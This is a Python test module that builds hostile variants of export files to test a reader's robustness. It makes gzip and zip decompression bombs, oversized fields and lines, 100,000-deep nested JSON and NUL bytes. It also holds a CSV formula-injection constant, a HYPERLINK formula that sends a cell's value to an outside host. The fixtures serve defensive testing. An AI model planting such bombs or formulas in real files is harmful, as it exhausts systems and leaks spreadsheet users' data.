"""What hostile, broken and careless hands do to an export: each takes a file and leaves it so.

``python -m tests.systems.hostile FOLDER`` reads a fixture and prints the most memory that it took, in megabytes.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import resource
import sys
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, Final

from tests.systems.reading import facts_in

FORMULA: Final = '=HYPERLINK("http://example.org/?"&A1,"open")'
_BOMB: Final = 400 << 20
_DEEP: Final = 100_000


def gzip_bomb(file: Path) -> None:
    """Put a file beside it that is small and becomes large, and begins as it does."""
    with gzip.open(file.with_name(f"more_{file.name}.gz"), "wb", compresslevel=6) as packed:
        packed.write(file.read_bytes())
        for _ in range(_BOMB >> 20):
            packed.write(b" " * (1 << 20))


def zip_bomb(file: Path) -> None:
    """Put an archive beside it whose one file is mostly one long line."""
    with (
        zipfile.ZipFile(file.with_name(f"more_{file.name}.zip"), "w", zipfile.ZIP_DEFLATED, compresslevel=6) as packed,
        packed.open(file.name, "w", force_zip64=True) as inner,
    ):
        inner.write(file.read_bytes())
        for _ in range(_BOMB >> 20):
            inner.write(b"9" * (1 << 20))


def long_field(file: Path) -> None:
    """Make one field 10 MB long."""
    _each_first(file, lambda value: "x" * 10_000_000, last=True)


def long_line(file: Path) -> None:
    """Put 40 MB of blanks after it, on one line."""
    with file.open("ab") as opened:
        opened.write(b" " * (40 << 20))


def deep_json(file: Path) -> None:
    """Put a list into it that is 100,000 lists deep."""
    deep = "[" * _DEEP + "]" * _DEEP
    if file.suffix == ".csv":
        _each_first(file, lambda value: deep, last=True)
    else:
        _each_first(file, lambda value: "@deep@", last=True)
        file.write_text(file.read_text("utf-8").replace('"@deep@"', deep), "utf-8")


def formula_ids(file: Path) -> None:
    """Make a formula of every record's first value."""
    _each_first(file, lambda value: FORMULA + value)


def nul_bytes(file: Path) -> None:
    """Put NUL bytes into every record's first value."""
    _each_first(file, lambda value: f"{value}\0\0")


def column_twice(file: Path) -> None:
    """Give the first column again, with other values."""
    if file.suffix == ".csv":
        header, *rows = _cells(file)
        _write(file, [[*header, header[0]], *([*row, "again"] for row in rows)])
    else:
        text = file.read_text("utf-8")
        at = text.index("{", text.index("[") + 1 if file.suffix == ".json" else 0) + 1
        name = text[at : text.index(":", at)].strip()
        file.write_text(f'{text[:at]}{name}: "again", {text[at:]}', "utf-8")


_ALL: Final = (
    gzip_bomb, zip_bomb, long_field, long_line, deep_json, formula_ids, nul_bytes, column_twice,
)  # fmt: skip
HANDS: Final[Mapping[str, Callable[[Path], None]]] = {each.__name__: each for each in _ALL}


def _each_first(file: Path, change: Callable[[str], str], *, last: bool = False) -> None:
    """Change the first value of every record, or the last value of the first record."""
    if file.suffix == ".csv":
        header, *rows = _cells(file)
        for row in rows[:1] if last else rows:
            place = -1 if last else 0
            row[place] = change(row[place])
        _write(file, [header, *rows])
        return
    text = file.read_text("utf-8")
    lines = text.splitlines() if file.suffix == ".jsonl" else [text]
    made = [json.loads(line) for line in lines if line.strip()]
    records = made if file.suffix == ".jsonl" else _records(made[0])
    for record in records[:1] if last else records:
        name = [*record][-1 if last else 0]
        record[name] = change(str(record[name]))
    file.write_text("\n".join(map(json.dumps, made)) + "\n", "utf-8")


def _records(document: Any) -> list[dict[str, Any]]:
    lists = [document] if isinstance(document, list) else [each for each in document.values() if isinstance(each, list)]
    return next(each for each in lists if each and isinstance(each[0], dict))


def _cells(file: Path) -> list[list[str]]:
    return [*csv.reader(io.StringIO(file.read_text("utf-8-sig")))]


def _write(file: Path, rows: list[list[str]]) -> None:
    with file.open("w", encoding="utf-8", newline="") as opened:
        csv.writer(opened).writerows(rows)


if __name__ == "__main__":
    facts_in(Path(sys.argv[1]))
    print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10)
